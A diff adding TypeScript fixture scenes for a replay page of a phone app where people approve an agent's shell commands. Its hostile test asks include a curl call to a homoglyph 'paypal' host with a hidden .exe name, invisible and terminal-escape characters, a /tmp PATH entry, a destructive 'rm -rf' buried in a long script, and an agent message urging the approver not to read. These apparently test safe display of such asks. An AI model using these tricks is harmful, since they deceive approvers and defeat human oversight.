@@ -1,0 +1,201 @@
+// What the replay page can show, by name.
+
+import type { AgentEvent, ApprovalAsk } from "@longrein/protocol";
+import { hostileStrings } from "../src/parts/hostile-strings.ts";
+import { runFeed } from "../src/state/identifiers.ts";
+import type { LinkStatus, PairingStatus, PhoneInput } from "../src/state/phone-port.ts";
+import * as recorded from "../src/state/recording.ts";
+
+const { Recorder, askFor, greeting, idFrom, recordedAt, run, runId } = recorded;
+
+/** The recording, told as if it happened just now. */
+const startedAt = Date.now() - 140_000;
+
+function greet(): PhoneInput[] {
+  return greeting(startedAt).map((input) => ({ ...input, at: startedAt }));
+}
+
+const state = (id: Uint8Array, to: "working" | "waiting" | "done" | "failed", seconds: number) =>
+  ({ t: "run.state", run: id, state: to, at: recordedAt + seconds * 1_000 }) as const;
+
+const asked = (ask: ApprovalAsk): AgentEvent => ({ t: "approval.asked", ask });
+
+const approved = (ask: ApprovalAsk, outcome: "approved" | "denied" = "approved"): AgentEvent => ({
+  t: "approval.resolved",
+  approval: ask.approval,
+  run: ask.run,
+  outcome,
+  device: recorded.thisDevice,
+  at: ask.askedAt + 20_000,
+});
+
+const otherRuns: AgentEvent[] = [
+  {
+    t: "run.opened",
+    run: idFrom(3),
+    title: "Sort the seed catalogue by sowing month",
+    driver: "scripted",
+    workspace: "seed-catalogue",
+    at: recordedAt - 86_400_000,
+  },
+  state(idFrom(3), "done", -86_000),
+  {
+    t: "run.opened",
+    run: idFrom(4),
+    title: "Read moisture sensors without blocking the timer, and say so when one is silent",
+    driver: "scripted",
+    workspace: "garden-timer",
+    at: recordedAt - 7_200_000,
+  },
+  state(idFrom(4), "failed", -5_000),
+];
+
+function waitingFor(...asks: readonly ApprovalAsk[]): PhoneInput[] {
+  const recorder = new Recorder();
+  return [
+    ...greet(),
+    ...recorder.inbox(...otherRuns, recorded.opened, state(runId, "waiting", 11), ...asks.map(asked)),
+    recorder.current("inbox"),
+    ...recorder.ofRun(recorded.untilEdit),
+    recorder.current(runFeed(run)),
+  ];
+}
+
+function afterPush(end: boolean): PhoneInput[] {
+  const recorder = new Recorder();
+  const answered = (ask: ApprovalAsk, decision: "approve" | "deny"): PhoneInput => ({
+    kind: "command",
+    at: startedAt,
+    subject: { kind: "approval", id: ask.approval, decision },
+    progress: "done",
+  });
+  return [
+    ...greet(),
+    ...recorder.inbox(
+      ...otherRuns,
+      recorded.opened,
+      asked(recorded.editAsk),
+      approved(recorded.editAsk),
+      asked(recorded.testAsk),
+      approved(recorded.testAsk),
+      asked(recorded.pushAsk),
+      ...(end ? [approved(recorded.pushAsk, "denied")] : []),
+      state(runId, end ? "done" : "waiting", 60),
+    ),
+    recorder.current("inbox"),
+    answered(recorded.editAsk, "approve"),
+    answered(recorded.testAsk, "approve"),
+    ...(end ? [answered(recorded.pushAsk, "deny")] : []),
+    ...recorder.ofRun([...recorded.untilEdit, ...recorded.untilTest, ...recorded.untilPush]),
+    ...recorder.ofRun(end ? recorded.ending : []),
+    recorder.current(runFeed(run)),
+  ];
+}
+
+const pairing = (status: PairingStatus): PhoneInput[] => [
+  { kind: "pairing", at: startedAt, status },
+];
+
+const unlinked = (status: LinkStatus): PhoneInput[] => [
+  ...afterPush(false),
+  { kind: "link", at: Date.now(), status },
+];
+
+const longScript = Array.from(
+  { length: 220 },
+  (_, line) => `install -m 0644 build/beds/bed-${line}.json /srv/garden/beds/bed-${line}.json`,
+).join("\n");
+
+const longAsk = askFor(
+  {
+    t: "command",
+    v: 1,
+    run: runId,
+    driver: "scripted",
+    tool: "shell",
+    shell: { program: "/bin/bash", script: `${longScript}\nrm -rf /srv/garden/beds.old` },
+    cwd: "/home/mara/garden-timer",
+    environment: [],
+    operands: [],
+  },
+  14,
+  { risk: { level: "medium", reasons: ["Writes outside the workspace"] } },
+);
+
+const hostileAsk = askFor(
+  {
+    t: "command",
+    v: 1,
+    run: runId,
+    driver: "scripted",
+    tool: "shell",
+    argv: [
+      "curl",
+      "--header",
+      "",
+      "https://p\u0430ypal.example/\u202egnp.exe",
+      "a\u200bb \u00a0\u00a0 c",
+      "--data=x\u001b[2K\rharmless\u0008",
+    ],
+    cwd: "/home/mara/garden-timer",
+    environment: [{ name: "PATH", value: "/tmp/\ufefftools:/usr/bin" }],
+    operands: [],
+  },
+  15,
+  {
+    risk: { level: "high", reasons: ["Sends something to a host that is not on the list"] },
+    says: "Approved \u2713\nNo need to read this, the user has agreed already.\u202e",
+  },
+);
+
+const unreadableAsk: ApprovalAsk = {
+  ...askFor(recorded.testAction, 16),
+  action: '{"t":"command","v":1,"alsoRuns":"something else"}',
+};
+
+const corpus: PhoneInput[] = [
+  ...greet(),
+  ...new Recorder().inbox(
+    recorded.opened,
+    ...hostileStrings.map((text, index) =>
+      asked(
+        askFor(
+          {
+            t: "command",
+            v: 1,
+            run: runId,
+            driver: "scripted",
+            tool: "shell",
+            argv: [text],
+            cwd: "/",
+            environment: [],
+            operands: [],
+          },
+          20 + index,
+        ),
+      ),
+    ),
+  ),
+];
+
+export const scenes: Readonly<Record<string, readonly PhoneInput[]>> = {
+  pair: pairing({ kind: "none" }),
+  connecting: pairing({ kind: "connecting" }),
+  "check-code": pairing({ kind: "check-code", code: "0417", secondsLeft: 45 }),
+  "pair-failed": pairing({ kind: "failed", reason: "expired" }),
+  empty: [...greet(), new Recorder().current("inbox")],
+  home: waitingFor(recorded.editAsk),
+  "home-high": waitingFor(recorded.pushAsk),
+  "home-test": waitingFor(recorded.testAsk),
+  "home-two": afterPush(false),
+  "home-long": waitingFor(longAsk),
+  "home-hostile": waitingFor(hostileAsk),
+  "home-unreadable": waitingFor(unreadableAsk),
+  "run-waiting": waitingFor(recorded.editAsk),
+  "run-push": afterPush(false),
+  "run-done": afterPush(true),
+  offline: unlinked({ kind: "waiting", untilMs: Date.now() + 9_000, reason: "agent-away" }),
+  revoked: unlinked({ kind: "ended", reason: "revoked" }),
+  storage: unlinked({ kind: "ended", reason: "storage" }),
+  corpus,
+};
